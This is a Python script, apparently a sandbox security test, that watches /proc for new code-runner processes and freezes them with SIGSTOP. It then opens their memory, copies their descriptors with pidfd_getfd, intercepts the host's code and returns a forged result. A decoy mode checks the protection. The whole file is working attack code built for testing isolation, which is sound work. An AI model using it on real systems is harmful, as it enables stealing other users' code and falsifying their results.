# Class 19: a command already watching for new processes when a code context starts.
# `python3 -c THIS LOG MODE`. It lists /proc in a tight loop and stops (SIGSTOP: the same uid
# may) every new process it targets on sight, then takes its descriptors (`pidfd_getfd`) and
# opens its memory (`/proc/<pid>/mem`): stopped, a process that makes itself undumpable in its
# first line never gets there, so the window stays open as long as the watcher likes.
# MODE `runner`: targets code runners (`-I ... -c <runner>`), up to 5. With a runner's channel
# it says `ready` in the runner's place (the runner stays stopped), reads the first cell the
# host sends ("STOLEN") and answers it with a forged result ("FORGED"). Without it, it
# continues the runner, logs what the kernel refused, and waits for the next.
# MODE `decoy` (the positive control): starts, as its own child, a process whose first line
# makes it undumpable (`prctl(PR_SET_DUMPABLE, 0)` through ctypes, the runner's protection
# before sandboxd started it undumpable) holding a descriptor from its start, and targets it:
# "TAKEN" when the watcher took that descriptor or opened its memory before that line; up to
# 5 decoys, one after the other, until one is taken.
import ctypes, os, signal, stat, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
log = open(sys.argv[1], "a", buffering=1)
def say(*a): print(*a, file=log)
mode = sys.argv[2]
me = os.getpid()
own = open("/proc/self/cmdline", "rb").read().split(b"\0")
DECOY = "import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\nimport time\ntime.sleep(20)  # DECOY-" + "START\n"
def target(argv):
    if mode == "runner":
        return b"-I" in argv and b"-c" in argv and any(b"CTRL" in a for a in argv)
    return any(b"DECOY-" + b"START" in a for a in argv)
seen = set(p for p in os.listdir("/proc") if p.isdigit())
say("watching")
tries = 5  # runners (the test starts as many contexts) or decoys
def spawn_decoy():
    # The decoy holds a socket from its start, as the runner holds its channel.
    return subprocess.Popen([sys.executable, "-I", "-u", "-c", DECOY], stdin=open("/dev/null"),
                            pass_fds=(pair[1].fileno(),))
if mode == "decoy":
    import socket
    pair = socket.socketpair()
    spawn_decoy()
def candidates():
    # Pids come in order within the namespace: the ones after the last seen first (a quick
    # look), then every process (nothing missed).
    try:
        last = int(open("/proc/sys/kernel/ns_last_pid").read())
        for p in range(last - 3, last + 1):
            yield str(p)
    except (OSError, ValueError):
        pass
    for p in os.listdir("/proc"):
        yield p
deadline = time.time() + 30
while time.time() < deadline and tries > 0:
    for p in candidates():
        if p in seen or not p.isdigit() or int(p) == me:
            continue
        try:
            argv = open("/proc/%s/cmdline" % p, "rb").read().split(b"\0")
        except OSError:
            continue
        if not target(argv):
            # A shepherd's child before its exec still has sandboxd's argv, the decoy the
            # watcher's, and a process in the middle of its exec none: look again.
            if argv[0] and not argv[0].endswith(b"sandboxd") and argv != own:
                seen.add(p)
            continue
        seen.add(p)
        pid = int(p)
        os.kill(pid, signal.SIGSTOP)
        tries -= 1
        say("stopped", pid)
        chan, took = None, []
        try:
            mem = open("/proc/%d/mem" % pid, "rb")
            say("MEM-OPENED", pid); took.append("mem")
        except OSError as e:
            say("mem refused", pid, e.strerror)
        pfd = libc.syscall(434, pid, 0)
        if pfd < 0:
            say("pidfd_open", pid, os.strerror(ctypes.get_errno()))
        else:
            for fd in range(3, 64):
                r = libc.syscall(438, pfd, fd, 0)
                if r < 0:
                    e = ctypes.get_errno()
                    if e == 9:
                        continue
                    say("pidfd_getfd", pid, fd, os.strerror(e))
                    break
                took.append("fd %d" % fd)
                if stat.S_ISSOCK(os.fstat(r).st_mode):
                    chan = r
                    say("FD-TAKEN", fd, os.readlink("/proc/self/fd/%d" % r))
        if mode == "decoy":
            os.kill(pid, signal.SIGKILL)
            if took:
                say("TAKEN", pid, took)
                sys.exit(0)
            say("refused", pid)
            if tries > 0:
                spawn_decoy()
            break
        if chan is None:
            os.kill(pid, signal.SIGCONT)
            say("continued", pid)
            break
        f = os.fdopen(chan, "r+b", buffering=0)
        f.write(b"ready 0\n")
        line = b""
        while not line.endswith(b"\n"):
            c = f.read(1)
            if not c: say("eof"); sys.exit(0)
            line += c
        words = line.split()
        code = f.read(int(words[-1]))
        say("STOLEN", words, code)
        f.write(b"bundle result 1 0\nitem text/plain 6\nFORGED" + b"done 1 0\n")
        say("FORGED")
        sys.exit(0)
say("done")
